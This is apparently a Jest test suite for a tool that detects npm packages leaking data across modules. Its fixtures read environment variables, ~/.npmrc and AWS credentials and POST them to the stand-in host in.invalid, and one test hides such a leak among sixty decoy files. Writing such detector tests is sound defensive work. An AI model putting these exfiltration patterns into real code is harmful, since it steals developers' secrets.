import { describe, expect, it } from '@jest/globals';
import { leaksOf } from '../../src/code/across.ts';
import { gradesOf } from '../helpers/an-update.ts';

const sender = `const https = require('https'); class Remote { constructor() { this.queue = [] } push(item) { this.queue.push(item); this.flush() }
  flush() { const r = https.request({ hostname: 'in.invalid', method: 'POST' }); r.end(JSON.stringify(this.queue.splice(0))) } } exports.Remote = Remote;`;
const facts = `exports.level = process.env.LEVEL; exports.all = () => ({ pid: process.pid, vars: Object.assign({}, process.env) });`;
const before = { 'index.js': 'module.exports = 1' };
const grade = async (files: Readonly<Record<string, string>>, manifest = {}) => (await gradesOf(before, files, manifest)).import;

describe('what one file takes and another sends', () => {
  it.each([
    [
      'handed over by a third',
      { 'index.js': `const f = require('./f'); const s = require('./s'); new s.Remote().push(f.all())`, 'f.js': facts, 's.js': sender },
      {},
    ],
    ['handed over by who takes it', { 'index.js': `const s = require('./s'); new s.Remote().push({ ...process.env })`, 's.js': sender }, {}],
    [
      'asked for by who sends it',
      {
        'index.js': `require('./s')`,
        'f.js': facts,
        's.js': `const f = require('./f'); fetch('https://in.invalid', { method: 'POST', body: JSON.stringify(f.all()) })`,
      },
      {},
    ],
    [
      'in ES modules, by name',
      {
        'index.mjs': `import { all } from './f.mjs'; import { send } from './s.mjs'; await send(all());`,
        'f.mjs': `export const all = () => Object.entries(process.env);`,
        's.mjs': `export async function send(what) { await fetch('https://in.invalid', { method: 'POST', body: String(what) }) }`,
      },
      { main: undefined, exports: './index.mjs', type: 'module' },
    ],
    [
      'files with credentials, sent by importing',
      {
        'index.js': `const f = require('./f'); require('./s').send(f.read())`,
        'f.js': `const fs = require('fs'), os = require('os'); exports.read = () => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');`,
        's.js': `exports.send = (what) => fetch('https://in.invalid', { method: 'POST', body: what });`,
      },
      {},
    ],
  ] satisfies [string, Record<string, string>, Record<string, unknown>][])('%s: convicts', async (_, files, manifest) => {
    const { grade: told, because } = await grade(files, manifest);
    expect([told, because.some(({ kind, detail }) => kind === 'exfiltration' && detail.endsWith('to in.invalid'))]).toEqual(['convicts', true]);
  });

  it('is found behind dozens of files that look like the one that hands it over', async () => {
    const decoys = Array.from(
      { length: 60 },
      (_, at) => [`a${at}.js`, `const s = require('./s'); exports.level = process.env; exports.s = s;`] as const,
    );
    const index = `${decoys.map(([name]) => `require('./${name}');`).join('')} require('./z')`;
    const hands = `const f = require('./f'); const s = require('./s'); new s.Remote().push(f.all())`;
    const { grade: told } = await grade({ 'index.js': index, ...Object.fromEntries(decoys), 'f.js': facts, 'z.js': hands, 's.js': sender });
    expect(told).toBe('convicts');
  });

  it.each([
    [
      'the environment of a program that is started, and its output',
      {
        'index.js': `const git = require('./git'); const s = require('./s'); new s.Remote().push(git.version())`,
        'git.js': `const { execSync } = require('child_process'); exports.version = () => execSync('git --version', { env: { ...process.env, LANG: 'C' } }).toString();`,
        's.js': sender,
      },
    ],
    [
      'one variable',
      {
        'index.js': `const f = require('./f'); const s = require('./s'); new s.Remote().push(f.level)`,
        'f.js': `exports.level = process.env.LEVEL;`,
        's.js': sender,
      },
    ],
    [
      'the environment of a program a helper starts, that sends other things as well',
      {
        'index.js': `const h = require('./h'); h.runTool('build', { cwd: '.', env: { ...process.env, CI: '1' } })`,
        'h.js': `const { spawn } = require('child_process'); exports.runTool = (name, options) => spawn(name, [], options);
          exports.count = (what) => fetch('https://in.invalid', { method: 'POST', body: JSON.stringify({ what }) });`,
      },
    ],
    [
      'another name of the files that are handed on together',
      {
        'index.js': `const { log, all } = require('./both'); log(all().length); exports.all = all;`,
        'both.js': `module.exports = { ...require('./f'), ...require('./s'), log: require('./l').log };`,
        'f.js': facts,
        's.js': sender,
        'l.js': `exports.log = (what) => console.log(what);`,
      },
    ],
    [
      'one variable, where the environment is given as well and handed on by a third',
      {
        'index.js': `const both = require('./both'); new both.s.Remote().push(both.count(3))`,
        'both.js': `const f = require('./f'); exports.s = require('./s'); exports.count = (n) => n + 1; exports.names = () => Object.keys(f.all());`,
        'f.js': facts,
        's.js': sender,
      },
    ],
    [
      'another name of modules that are handed on together',
      {
        'index.js': `import { log, all } from './both.js'; log(all().length); export { all };`,
        'both.js': `export * from './f.js'; export * from './s.js'; export { log } from './l.js';`,
        'f.js': `export const all = () => ({ ...process.env });`,
        's.js': `export const send = (what) => fetch('https://in.invalid', { method: 'POST', body: JSON.stringify(what) });`,
        'l.js': `export const log = (what) => console.log(what);`,
      },
    ],
    ['side by side', { 'index.js': `exports.f = require('./f'); exports.s = require('./s');`, 'f.js': facts, 's.js': sender }],
    [
      'a client that signs with the credentials it finds, when it is called',
      {
        'index.js': `const chain = require('./c'); exports.put = async (body) => { const c = await chain(); return fetch('https://store.invalid/', { method: 'PUT', body, headers: { sig: c.key } }) }`,
        'c.js': `const fs = require('fs'), os = require('os'); module.exports = async () => ({ key: /key=(.*)/.exec(fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'))[1] });`,
      },
    ],
  ])('%s: does not convict', async (_, files) => {
    expect((await grade(files)).grade).not.toBe('convicts');
  });
});

const all = (file: string) => ({ file, reach: '' });

it('what hands over is read behind dozens of files that look like it', () => {
  const decoys = Array.from({ length: 60 }, (_, at) => `decoy${at}`);
  const taking = { takes: true, outgoing: [] } as never;
  const leaks = leaksOf({
    flows: new Map([...decoys, 'facts'].map((file) => [file, taking] as const)).set('sender', {
      takes: false,
      sends: 'in.invalid',
      outgoing: [],
    } as never),
    importers: new Map([
      ['sender', [...decoys, 'hand']],
      ['facts', ['hand']],
    ]),
    locate: (specifier) => [specifier],
    links: (file) => ({
      gives: file === 'facts' ? ['environment'] : [],
      handOvers: file === 'hand' ? [{ to: [all('sender')], of: [all('facts')], tags: [], forwards: false, at: 0, waits: false }] : [],
      givesEnvironment: false,
      isEnvironment: () => false,
      lacks: () => false,
      leads: () => ({ of: [], same: [], through: [] }),
    }),
  });
  expect(leaks.map(({ file, to }) => [file, to])).toEqual([['hand', 'in.invalid']]);
});
